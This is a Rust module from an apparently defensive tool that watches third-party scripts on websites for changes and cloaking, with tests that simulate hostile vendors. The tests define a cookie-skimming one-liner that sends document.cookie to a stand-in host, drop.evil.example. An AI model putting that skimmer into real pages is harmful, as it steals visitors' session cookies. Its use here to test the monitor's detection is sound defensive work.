//! One look at one script: from every vantage, again where answers differ.

use std::path::Path;
use std::time::Duration;

use bytes::Bytes;

use super::answer::{Answer, Came, came};
use super::classify::{Right, agree, classify};
use super::kind::Drift;
use super::vantage::{VANTAGES, Validators, Vantage, with_cors};
use super::watched::Watched;
use crate::inventory::{Form, Tier};
use crate::sri::Digest;
use crate::transport::fetch::{FetchOptions, Fetcher, Wanted};
use crate::transport::tls::{PemPair, TlsError};

/// Different unknown bytes of one look that are kept for review.
const VERSIONS: usize = 3;

/// Fetches scripts.
#[derive(Debug, Clone)]
pub struct Looker {
    fetcher: Fetcher,
    allowed: Allowed,
    /// The longest time for one answer.
    patience: Duration,
}

/// How vendors may be reached.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Allowed {
    /// At addresses of private networks and of this machine.
    pub private: bool,
    /// Through the proxy that the environment names.
    pub through_proxy: bool,
}

/// How the sites' own applications are reached. Vendors are not believed by it, nor shown it.
#[derive(Clone, Copy, Default)]
#[expect(missing_debug_implementations, reason = "a private key is no part of any log")]
pub struct Own<'a> {
    /// A CA (PEM) that their certificates may come from, beside the system's.
    pub ca: Option<&'a Path>,
    /// What they are shown.
    pub identity: Option<&'a PemPair>,
}

/// Bytes that are not approved.
#[derive(Debug, Clone)]
pub struct Version {
    /// Of them.
    pub digest: Digest,
    /// As they came, decoded.
    pub bytes: Bytes,
}

/// What is remembered of a script from one look to the next.
#[derive(Debug, Clone, Default)]
pub(super) struct Memory {
    /// For each vantage what it was answered last, where that can be asked for again.
    known: Vec<Option<Known>>,
    /// Tier evergreen: what came first.
    pub(super) before: Vec<Digest>,
    /// Looks so far.
    looks: usize,
}

impl Memory {
    /// Of an evergreen script that is held against these bytes.
    pub(super) fn holding(before: Vec<Digest>) -> Self {
        Self { before, ..Self::default() }
    }
}

#[derive(Debug, Clone)]
struct Known {
    answer: Answer,
    validators: Validators,
    /// Which of the site's applications gave it.
    application: usize,
}

/// Which vantages must be sent the bytes, whatever their vendor says of validators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Whole {
    All,
    /// This one; others may be told that nothing changed.
    Only(usize),
}

/// What was seen.
#[derive(Debug)]
pub(super) struct Sight {
    pub(super) drift: Drift,
    /// By the names of vantages.
    pub(super) answers: Vec<(&'static str, Answer)>,
    pub(super) versions: Vec<Version>,
    /// An answer was longer than `most`, and not read.
    pub(super) cut: bool,
}

/// What a pass gathers beside its answers.
#[derive(Default)]
struct Gathered {
    versions: Vec<Version>,
    cut: bool,
}

impl Looker {
    /// `own` is what the sites' applications are reached with.
    pub fn new(own: &Own<'_>, allowed: Allowed, patience: Duration) -> Result<Self, TlsError> {
        Ok(Self { fetcher: Fetcher::new(own.ca, own.identity)?, allowed, patience })
    }

    /// Looks at a script, taking at most so many bytes of an answer. What is kept of a look is at most
    /// [`Looker::holds`].
    pub(super) async fn look(
        &self,
        watched: &Watched,
        memory: &mut Memory,
        whole: Whole,
        most: usize,
    ) -> Sight {
        let script = &watched.script;
        let evergreen = script.tier == Tier::Evergreen;
        let digests = if evergreen { memory.before.clone() } else { script.digests.clone() };
        let needs_cors = script.tier == Tier::Pin && watched.is_elsewhere();
        let right = Right { digests: &digests, evergreen, needs_cors };
        let mut gathered = Gathered::default();
        let first = self.pass(watched, memory, (whole, most), (&right, &mut gathered)).await;
        let mut drift = classify(&bare(&first), &right);
        let mut answers = first;
        if drift == Drift::Cloaked {
            // A release that goes out just now looks like it. Then all agree a moment later, and not on
            // what was there before: one that answers by chance would agree on that too.
            let second = self.pass(watched, memory, (Whole::All, most), (&right, &mut gathered)).await;
            let again = classify(&bare(&second), &right);
            if agree(&bare(&second), &right) && matches!(again, Drift::Changed | Drift::Gone) {
                (drift, answers) = (again, second);
            }
        }
        // What came first stays what it is held against: that a vendor goes on serving something else makes
        // it no better.
        if evergreen && drift == Drift::FirstSeen {
            memory.before = bytes_of(&answers);
        }
        memory.looks = memory.looks.wrapping_add(1);
        let Gathered { versions, cut } = gathered;
        Sight { drift, answers, versions, cut }
    }

    /// Bytes that a look holds at the most: what is kept, and one more answer as it came and as it is while
    /// it is decoded.
    pub(super) fn holds(most: usize) -> usize {
        most.saturating_mul(VERSIONS + 3)
    }

    async fn pass(
        &self,
        watched: &Watched,
        memory: &mut Memory,
        (whole, most): (Whole, usize),
        (right, gathered): (&Right<'_>, &mut Gathered),
    ) -> Vec<(&'static str, Answer)> {
        let mut cookies = String::new();
        let mut answers: Vec<(&'static str, Answer)> = Vec::new();
        let mut unreached = 0;
        memory.known.resize(VANTAGES.len(), None);
        for (place, vantage) in VANTAGES.iter().enumerate() {
            // Where there are several applications, each vantage asks another one.
            let application = watched.application(place, memory.looks);
            if answers.len() == 2 && unreached == 2 && watched.through.len() < 2 {
                // Nobody is there: that the others would wait in vain too needs no proof. Who was asked, and
                // gave no answer, may give the others one.
                break;
            }
            let known = memory.known.get(place).cloned().flatten();
            let known = known
                .filter(|known| whole != Whole::All && whole != Whole::Only(place) && known.validators.any())
                .filter(|known| known.application == application);
            let mut came = self.ask((watched, application), vantage, &cookies, (known.as_ref(), most)).await;
            if let Came::Other(Answer::Failed(_)) | Came::Unreached(_) = came {
                // Once more: networks fail by chance.
                came = self.ask((watched, application), vantage, &cookies, (None, most)).await;
            }
            let (answer, kept) = match (came, known) {
                (Came::Whole { answer, bytes, validators, cookies: set }, _) => {
                    // The one given to whom says truthfully that it watches may be a mark.
                    if cookies.is_empty() && vantage.is_browser() {
                        cookies = set;
                    }
                    keep(&mut gathered.versions, right, &answer, bytes);
                    (answer.clone(), Some(Known { answer, validators, application }))
                }
                (Came::NotModified, Some(known)) => (known.answer.clone(), Some(known)),
                (Came::NotModified, None) => {
                    (Answer::Failed("it answered 304 to a request without conditions".to_owned()), None)
                }
                (Came::TooLong(why), _) => {
                    gathered.cut = true;
                    (Answer::Unread(why), None)
                }
                (Came::Unreached(why), _) => {
                    unreached += 1;
                    (Answer::Failed(why), None)
                }
                (Came::Other(answer), _) => (answer, None),
            };
            if let Some(place) = memory.known.get_mut(place) {
                *place = kept;
            }
            answers.push((vantage.name, answer));
        }
        answers
    }

    async fn ask(
        &self,
        (watched, application): (&Watched, usize),
        vantage: &Vantage,
        cookies: &str,
        (known, most): (Option<&Known>, usize),
    ) -> Came {
        let options = FetchOptions {
            allow_private: self.allowed.private,
            through_proxy: self.allowed.through_proxy,
            max_bytes: most,
            max_time: self.patience,
            any_status: true,
            wanted: if with_cors(watched) { Wanted::Script } else { Wanted::PlainScript },
            through: watched.through.get(application).cloned(),
            fields: vantage.fields(watched, cookies, known.map(|known| &known.validators)),
            ..FetchOptions::default()
        };
        let algorithm = match watched.script.tier {
            Tier::Evergreen => Form::External.algorithm(),
            Tier::Pin | Tier::Mirror => {
                let first = watched.script.digests.first();
                first.map_or(Form::External.algorithm(), Digest::algorithm)
            }
        };
        came(&watched.url, algorithm, self.fetcher.fetch(&watched.url, &options).await)
    }
}

fn keep(versions: &mut Vec<Version>, right: &Right<'_>, answer: &Answer, bytes: Vec<u8>) {
    let Answer::Bytes { digest, .. } = answer else { return };
    let known = right.digests.contains(digest) || versions.iter().any(|version| version.digest == *digest);
    if !known && versions.len() < VERSIONS {
        versions.push(Version { digest: digest.clone(), bytes: bytes.into() });
    }
}

fn bare(answers: &[(&'static str, Answer)]) -> Vec<Answer> {
    answers.iter().map(|(_, answer)| answer.clone()).collect()
}

fn bytes_of(answers: &[(&'static str, Answer)]) -> Vec<Digest> {
    super::classify::digests(&bare(answers)).into_iter().cloned().collect()
}

#[cfg(test)]
mod tests {
    use std::io::{Read, Write};
    use std::net::TcpListener;
    use std::sync::{Arc, Mutex};
    use std::thread;

    use super::*;
    use crate::drift::watched::tests::chat;
    use crate::transport::fetch::MAX_BYTES;

    const SKIMMER: &str = "fetch('https://drop.evil.example/?'+document.cookie)";
    const OK: &str = "200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/javascript";

    /// A vendor whose answers (head, body) depend on the request's head in lower case, and what is watched
    /// of it.
    fn vendor(
        tier: Tier,
        answer: impl Fn(&str) -> (&'static str, Vec<u8>) + Send + 'static,
    ) -> (Watched, Arc<Mutex<Vec<String>>>) {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let mut watched = chat();
        watched.url = format!("http://{}/chat.js", listener.local_addr().unwrap()).parse().unwrap();
        Arc::get_mut(&mut watched.script).unwrap().tier = tier;
        let requests = Arc::<Mutex<Vec<String>>>::default();
        let kept = Arc::clone(&requests);
        thread::spawn(move || {
            for stream in listener.incoming() {
                let mut stream = stream.unwrap();
                let mut request = [0; 4096];
                let length = stream.read(&mut request).unwrap();
                let request = String::from_utf8_lossy(&request[..length]).to_lowercase();
                kept.lock().unwrap().push(request.clone());
                let (head, body) = answer(&request);
                let head = format!("HTTP/1.1 {head}\r\ncontent-length: {}\r\n\r\n", body.len());
                // Whoever has enough hangs up.
                let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&body));
            }
        });
        (watched, requests)
    }

    fn look(watched: &Watched, memory: &mut Memory) -> Sight {
        let looker = Looker::new(
            &Own::default(),
            Allowed { private: true, through_proxy: false },
            Duration::from_secs(20),
        )
        .unwrap();
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let look = looker.look(watched, memory, Whole::All, MAX_BYTES);
        tokio::task::LocalSet::new().block_on(&runtime, look)
    }

    #[test]
    fn an_evergreen_script_is_asked_for_as_its_tags_ask() {
        let (watched, requests) = vendor(Tier::Evergreen, |head| {
            (OK, if head.contains("origin:") { b"chat()".to_vec() } else { SKIMMER.into() })
        });
        let mut memory = Memory { before: watched.script.digests.clone(), ..Memory::default() };
        assert_eq!(look(&watched, &mut memory).drift, Drift::Changed);
        let requests = requests.lock().unwrap();
        assert_eq!(requests.len(), VANTAGES.len());
        assert!(requests.iter().all(|head| !head.contains("sec-fetch-mode: cors")), "{requests:#?}");
        assert_eq!(requests.iter().filter(|head| head.contains("sec-fetch-mode: no-cors")).count(), 5);
    }

    #[test]
    fn an_evergreen_change_stays_a_finding_however_often_it_is_seen() {
        let served = Arc::new(Mutex::new("chat()"));
        let now = Arc::clone(&served);
        let (watched, _) = vendor(Tier::Evergreen, move |_| (OK, now.lock().unwrap().as_bytes().to_vec()));
        let mut memory = Memory::default();
        assert_eq!(look(&watched, &mut memory).drift, Drift::FirstSeen);
        *served.lock().unwrap() = SKIMMER;
        for _ in 0..3 {
            assert_eq!(look(&watched, &mut memory).drift, Drift::Changed);
        }
        *served.lock().unwrap() = "chat()";
        assert_eq!(look(&watched, &mut memory).drift, Drift::Same);
    }

    #[test]
    fn whatever_browsers_run_is_changed_bytes_whatever_it_says_of_itself() {
        for head in [
            "203 Non-Authoritative Information",
            "201 Created",
            "206 Partial Content",
            "200 OK\r\ncontent-type: text/html",
            "200 OK\r\ncontent-type: TEXT/HTML; charset=utf-8",
        ] {
            for code in [SKIMMER.to_owned(), format!("\u{feff}<!-- a comment\n{SKIMMER}")] {
                let bytes = code.clone().into_bytes();
                let (watched, _) = vendor(Tier::Pin, move |_| (head, bytes.clone()));
                let sight = look(&watched, &mut Memory::default());
                assert_eq!(sight.drift, Drift::Changed, "{head}: {:?}", sight.answers);
                assert_eq!(sight.versions[0].bytes, code, "kept for review: {head}");
            }
        }
        // `<p` is a letter in UTF-16, and a name in JavaScript.
        let head = "200 OK\r\ncontent-type: text/html; charset=utf-16";
        let (watched, _) = vendor(Tier::Pin, move |_| (head, b"<p=\x001\x00".to_vec()));
        assert_eq!(look(&watched, &mut Memory::default()).drift, Drift::Changed);
    }

    #[test]
    fn what_browsers_run_in_place_of_a_redirect_that_they_do_not_follow_is_changed_bytes() {
        for head in [
            "300 Multiple Choices\r\nlocation: /clean.js",
            "305 Use Proxy\r\nlocation: /clean.js",
            "309 Odd\r\nlocation: /clean.js",
            "302 Found",
        ] {
            let (watched, _) = vendor(Tier::Evergreen, move |request| {
                if request.contains("/clean.js") { (OK, b"chat()".to_vec()) } else { (head, SKIMMER.into()) }
            });
            let mut memory = Memory { before: watched.script.digests.clone(), ..Memory::default() };
            let sight = look(&watched, &mut memory);
            assert_eq!(sight.drift, Drift::Changed, "{head}: {:?}", sight.answers);
            assert_eq!(sight.versions[0].bytes, SKIMMER, "kept for review: {head}");
        }
    }

    #[test]
    fn a_page_in_place_of_a_script_is_gone() {
        for page in ["<!DOCTYPE html><p>nothing", "\n <p>nothing", ""] {
            let head = "200 OK\r\ncontent-type: text/html; charset=\"UTF-8\"";
            let (watched, _) = vendor(Tier::Pin, move |_| (head, page.into()));
            assert_eq!(look(&watched, &mut Memory::default()).drift, Drift::Gone, "{page}");
        }
    }

    #[test]
    fn what_can_not_be_read_here_is_changed_where_browsers_may_run_it() {
        for (head, body) in [
            ("200 OK\r\ncontent-encoding: gzip, br", SKIMMER.into()),
            ("200 OK\r\ncontent-encoding: gzip", SKIMMER.into()),
            ("200 OK\r\ncontent-type: text/javascript", vec![b' '; (10 << 20) + 1]),
        ] {
            let (watched, _) = vendor(Tier::Mirror, move |_| (head, body.clone()));
            let sight = look(&watched, &mut Memory::default());
            assert_eq!(sight.drift, Drift::Changed, "{head}: {:?}", sight.answers);
            assert!(sight.versions.is_empty());
        }
        let head = "503 Service Unavailable\r\ncontent-encoding: gzip, br";
        let (watched, _) = vendor(Tier::Pin, move |_| (head, b"sorry".to_vec()));
        assert_eq!(look(&watched, &mut Memory::default()).drift, Drift::Unreachable);
    }

    #[test]
    fn a_vendor_that_answers_the_first_vantages_with_an_error_is_asked_by_all() {
        let (watched, _) = vendor(Tier::Pin, |head| {
            if head.contains("agent: countersign/") || head.contains("windows") {
                ("403 Forbidden", Vec::new())
            } else {
                (OK, SKIMMER.into())
            }
        });
        let sight = look(&watched, &mut Memory::default());
        assert_eq!((sight.drift, sight.answers.len()), (Drift::Changed, VANTAGES.len()));
    }

    #[test]
    fn nobody_at_all_is_asked_twice_and_no_more() {
        let mut watched = chat();
        let nobody = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
        watched.url = format!("http://{nobody}/chat.js").parse().unwrap();
        let sight = look(&watched, &mut Memory::default());
        assert_eq!((sight.drift, sight.answers.len()), (Drift::Unreachable, 2));
    }

    #[test]
    fn the_cookie_that_is_brought_back_is_not_the_one_given_to_countersign() {
        let (watched, _) = vendor(Tier::Pin, |head| {
            if head.contains("agent: countersign/") {
                ("200 OK\r\naccess-control-allow-origin: *\r\nset-cookie: k=watcher", b"chat()".to_vec())
            } else {
                (OK, if head.contains("k=watcher") { b"chat()".to_vec() } else { SKIMMER.into() })
            }
        });
        let sight = look(&watched, &mut Memory::default());
        let returning = sight.answers.iter().find(|(name, _)| *name == "chrome-android-returning").unwrap();
        let Answer::Bytes { digest, .. } = &returning.1 else { panic!("{returning:?}") };
        assert!(!watched.script.digests.contains(digest), "what visitors get is seen");
    }
}
